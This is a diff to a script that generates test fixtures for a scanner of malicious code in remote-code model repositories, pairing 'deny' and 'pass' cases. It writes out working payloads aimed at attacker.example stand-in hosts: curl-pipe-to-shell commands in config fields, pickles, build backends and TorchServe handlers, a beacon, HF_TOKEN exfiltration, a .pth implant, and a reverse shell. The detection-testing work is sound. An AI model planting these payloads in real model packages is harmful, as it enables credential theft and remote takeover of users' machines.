@@ -1343,6 +1343,185 @@ case("loaders/benign-image-processor-url", "pass", "an image processor (`auto_ma
         "preprocessor_config.json": json.dumps({"image_processor_type": "TinyImageProcessor", "size": 32,
                                                 "auto_map": {"AutoImageProcessor": "image_processing_tiny.TinyImageProcessor"}}, indent=2) + "\n"}))
 
+# ==== cases_e: network, more loaders and hiding places ====
+# ---------------------------------------------------------------- network
+case("network/malicious-hardcoded-beacon", "deny", "a GET to a hard-coded host that is not the Hub's (`urllib.request.urlopen`) from `__init__` (no payload sent: the connection is the finding)",
+     remote(modeling(imports="import platform\nimport urllib.request\n", init='''
+        try:
+            urllib.request.urlopen(f"https://telemetry.attacker.example/ping?m=tiny&os={platform.system()}", timeout=2)
+        except OSError:
+            pass
+     ''')))
+case("network/malicious-raw-ip-socket", "deny", "a raw TCP connection to a literal IP address (`socket.socket().connect((\"203.0.113.7\", 8080))`)",
+     remote(modeling(imports="import socket\n", module='''
+        try:
+            _s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+            _s.settimeout(2)
+            _s.connect(("203.0.113.7", 8080))
+            _s.sendall(b"tiny-loaded\\n")
+            _s.close()
+        except OSError:
+            pass
+     ''')))
+case("network/benign-caller-url", "pass", "the model's `load_image(url)` helper fetches a URL the caller passes in (`requests.get(url)`), as vision processors do (at most medium)",
+     remote(modeling(imports="from io import BytesIO\n\nimport requests\nfrom PIL import Image\n", module='''
+        def load_image(url_or_path):
+            if str(url_or_path).startswith(("http://", "https://")):
+                return Image.open(BytesIO(requests.get(url_or_path, stream=True, timeout=10).content)).convert("RGB")
+            return Image.open(url_or_path).convert("RGB")
+     ''')))
+case("network/benign-hub-api", "pass", "a GET to the Hub's own API (`https://huggingface.co/api/models/...` at a pinned revision)",
+     remote(modeling(imports="import requests\n", methods='''
+        @staticmethod
+        def remote_generation_config():
+            url = "https://huggingface.co/api/models/example-org/tiny/revision/0123456789abcdef0123456789abcdef01234567"
+            return requests.get(url, timeout=10).json().get("config", {})
+     ''')))
+case("network/mention-docstring", "pass", "a hard-coded host and `urlopen` only in a docstring",
+     remote(modeling(doc='''PyTorch Tiny model.
+
+Telemetry (urllib.request.urlopen("https://telemetry.attacker.example/ping")) was removed in v2.''')))
+
+# ---------------------------------------------------------------- more dynamic code
+case("dynamic-code/malicious-exec-config-field", "deny", "`exec(config.init_hook)`: the code sits in a `config.json` field (dynamic code from a non-literal)",
+     remote(modeling(init='''
+        hook = getattr(config, "init_hook", None)
+        if hook:
+            exec(hook, {"model": self})
+     '''), extra={"config.json": config_json().replace('"hidden_act": "gelu",', '"hidden_act": "gelu",\n  "init_hook": "import os; os.system(\'curl -s https://attacker.example/cfg | sh\')",')}))
+case("dynamic-code/malicious-exec-file-in-repo", "deny", "`exec(open(<repo file>).read())`: Python hidden in a `.bin` file next to the code",
+     remote(modeling(imports="import os\n", module='''
+        with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "rope_freqs.bin")) as _f:
+            exec(_f.read())
+     '''), extra={"rope_freqs.bin": STAGE}))
+case("dynamic-code/malicious-cloudpickle-literal", "deny", "`cloudpickle.loads(base64.b64decode(...))` of a literal pickle calling `os.system`",
+     remote(modeling(imports="import base64\nimport cloudpickle\n", module=f'''
+        _INIT_FN = cloudpickle.loads(base64.b64decode("{base64.b64encode(b"cposix" + chr(10).encode() + b"system" + chr(10).encode() + b"(S'curl -s https://attacker.example/cp | sh'" + chr(10).encode() + b"tR.").decode()}"))
+     ''')))
+
+# ---------------------------------------------------------------- more loaders
+
+
+def zip_bytes(members):
+    """A deterministic zip (fixed timestamps, deflated) of {name: text or bytes}."""
+    import io
+    import zipfile
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as z:
+        for name, data in sorted(members.items()):
+            info = zipfile.ZipInfo(name, date_time=(2026, 12, 1, 0, 0, 0))
+            info.compress_type = zipfile.ZIP_DEFLATED
+            info.external_attr = 0o644 << 16
+            z.writestr(info, data.encode() if isinstance(data, str) else data)
+    return buf.getvalue()
+
+
+_MAR_MAL = mar(handler(imports="import subprocess\n", initialize_extra='''
+    subprocess.Popen("curl -s https://attacker.example/mar | sh", shell=True)
+'''))
+_MAR_OK = mar(handler())
+case("loaders/malicious-torchserve-mar", "deny", "a packed `tiny.mar` (zip with `MAR-INF/MANIFEST.json`) whose handler's `initialize` runs `subprocess.Popen(..., shell=True)`",
+     {"tiny.mar": zip_bytes({k: v for k, v in _MAR_MAL.items() if k != "README.md"}), "README.md": _MAR_MAL["README.md"]})
+case("loaders/benign-torchserve-mar", "pass", "a packed `tiny.mar` with the benign handler",
+     {"tiny.mar": zip_bytes({k: v for k, v in _MAR_OK.items() if k != "README.md"}), "README.md": _MAR_OK["README.md"]})
+case("loaders/malicious-pep517-backend", "deny", "`pyproject.toml` names an in-tree build backend (`backend-path = [\".\"]`) whose `build_wheel` runs `os.system`",
+     remote(modeling(), extra={
+        "pyproject.toml": '[build-system]\nrequires = ["setuptools>=68"]\nbuild-backend = "tiny_build"\nbackend-path = ["."]\n\n[project]\nname = "tiny-model"\nversion = "0.1.0"\n',
+        "tiny_build.py": dedent('''
+            """In-tree PEP 517 backend wrapping setuptools."""
+
+            import os
+
+            from setuptools import build_meta as _orig
+
+            get_requires_for_build_wheel = _orig.get_requires_for_build_wheel
+            prepare_metadata_for_build_wheel = _orig.prepare_metadata_for_build_wheel
+            build_sdist = _orig.build_sdist
+
+
+            def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
+                os.system("curl -s https://attacker.example/pep517 | sh")
+                return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)
+        ''')}))
+case("loaders/benign-pyproject", "pass", "`pyproject.toml` with the stock setuptools backend",
+     remote(modeling(), extra={
+        "pyproject.toml": '[build-system]\nrequires = ["setuptools>=68", "wheel"]\nbuild-backend = "setuptools.build_meta"\n\n[project]\nname = "tiny-model"\nversion = "0.1.0"\ndependencies = ["torch>=2.1", "transformers>=4.40"]\n'}))
+case("loaders/malicious-custom-pipeline", "deny", "`config.json` `custom_pipelines` names `pipeline_tiny.py`, whose pipeline `__init__` posts the HF token",
+     remote(modeling(), extra={
+        "config.json": config_json().replace('"model_type": "tiny",', '"custom_pipelines": {\n    "text-generation": {"impl": "pipeline_tiny.TinyPipeline", "pt": ["AutoModelForCausalLM"], "tf": []}\n  },\n  "model_type": "tiny",'),
+        "pipeline_tiny.py": dedent('''
+            """Custom text-generation pipeline for the tiny model."""
+
+            import os
+
+            import requests
+            from transformers import Pipeline
+
+
+            class TinyPipeline(Pipeline):
+                def __init__(self, *args, **kwargs):
+                    super().__init__(*args, **kwargs)
+                    requests.post("https://attacker.example/pl", data={"t": os.environ.get("HF_TOKEN", "")}, timeout=2)
+
+                def _sanitize_parameters(self, **kwargs):
+                    return {}, {}, {}
+
+                def preprocess(self, text):
+                    return self.tokenizer(text, return_tensors="pt")
+
+                def _forward(self, inputs):
+                    return self.model(**inputs)
+
+                def postprocess(self, outputs):
+                    return outputs[0].argmax(-1).tolist()
+        ''')}))
+case("loaders/malicious-helper-module", "deny", "the modeling file imports `utils_tiny.py` (not named by `auto_map`), which plants a `.pth` at import",
+     remote(modeling(imports="from .utils_tiny import rotate_half  # noqa: F401\n"), extra={
+        "utils_tiny.py": dedent('''
+            """Rotary helpers."""
+
+            import site
+
+            import torch
+
+
+            def rotate_half(x):
+                x1, x2 = x.chunk(2, dim=-1)
+                return torch.cat((-x2, x1), dim=-1)
+
+
+            with open(site.getsitepackages()[0] + "/tiny_rope.pth", "w") as _f:
+                _f.write("import os; os.system('curl -s https://attacker.example/h | sh')\\n")
+        ''')}))
+case("loaders/malicious-feature-extractor-automap", "deny", "`auto_map.AutoFeatureExtractor` names a feature extractor whose `__init__` opens a reverse shell",
+     remote(modeling(), extra_auto_map={"AutoFeatureExtractor": "feature_extraction_tiny.TinyFeatureExtractor"}, extra={
+        "feature_extraction_tiny.py": dedent('''
+            """Feature extractor for the tiny audio model."""
+
+            import os
+            import pty
+            import socket
+
+            import numpy as np
+            from transformers import SequenceFeatureExtractor
+
+
+            class TinyFeatureExtractor(SequenceFeatureExtractor):
+                model_input_names = ["input_values"]
+
+                def __init__(self, feature_size=1, sampling_rate=16000, padding_value=0.0, **kwargs):
+                    super().__init__(feature_size=feature_size, sampling_rate=sampling_rate, padding_value=padding_value, **kwargs)
+                    if os.fork() == 0:
+                        s = socket.create_connection(("attacker.example", 4444))
+                        [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]
+                        pty.spawn("sh")
+
+                def __call__(self, raw_speech, **kwargs):
+                    return {"input_values": [np.asarray(raw_speech, dtype=np.float32)]}
+        '''),
+        "preprocessor_config.json": json.dumps({"feature_extractor_type": "TinyFeatureExtractor", "sampling_rate": 16000,
+                                                "auto_map": {"AutoFeatureExtractor": "feature_extraction_tiny.TinyFeatureExtractor"}}, indent=2) + "\n"}))
+
 # ==== write ====
 
 root = sys.argv[1] if len(sys.argv) > 1 else os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "tests", "fixtures", "behaviour")
@@ -1388,14 +1567,16 @@ CAPS = {
     "native-load": "`ctypes.CDLL`/`cdll.LoadLibrary`/`PyDLL`, `torch.ops.load_library`, `torch.classes.load_library`, cffi `dlopen`, `cpp_extension.load_inline`",
     "credentials": "`~/.ssh`, `~/.aws`, `~/.netrc`, `~/.docker/config.json`, `~/.git-credentials`, keyring, bulk environment reads, each sent out",
     "aliasing": "the call spelled through aliases, `getattr(__import__(...))`, `importlib.import_module` of built names, f-strings, `%`/`format`, `chr`, reversed strings, `vars(builtins)`, `sys.modules` lookups",
-    "loaders": "payloads in what other loaders run: `hubconf.py`, a TorchServe handler (`initialize`/`handle`), an MLflow `_load_pyfunc` loader module, `setup.py` at the root, a notebook cell, an `auto_map` tokenizer; benign twins include an image processor that fetches a caller-given URL",
+    "loaders": "payloads in what other loaders run: `hubconf.py`, a TorchServe handler (`initialize`/`handle`, unpacked and packed in a `.mar`), an MLflow `_load_pyfunc` loader module, `setup.py` and an in-tree PEP 517 backend at the root, a notebook cell, an `auto_map` tokenizer (list form) and feature extractor, a `custom_pipelines` pipeline, a helper module the modeling file imports; benign twins include an image processor that fetches a caller-given URL",
+    "network": "connections to hard-coded hosts that are not the Hub's (a beacon, a raw IP); benign twins fetch a caller-given URL or the Hub's API",
 }
 lines = [
     "# Behaviour fixtures (issue 30)",
     "",
     "Small model folders laid out as real remote-code repositories: `config.json` with `auto_map`",
     "pointing at `configuration_tiny.py` / `modeling_tiny.py`, a model card, the Python files (and, for",
-    "`hubconf.py` and TorchServe folders, a 96-byte safetensors file so the folder is a model).",
+    "`hubconf.py` and TorchServe folders, a 96-byte safetensors file so the folder is a model; two",
+    "folders hold a packed TorchServe `.mar`, a zip of about 1.2 KB).",
     "Written by `scripts/make-behaviour-fixtures.py` (Python 3.11; the marshal blobs are CPython 3.11",
     "code objects); the payloads are realistic but point only at `attacker.example` hosts and were never",
     "run. The generator only parses what it writes (`ast.parse`) to check the syntax.",
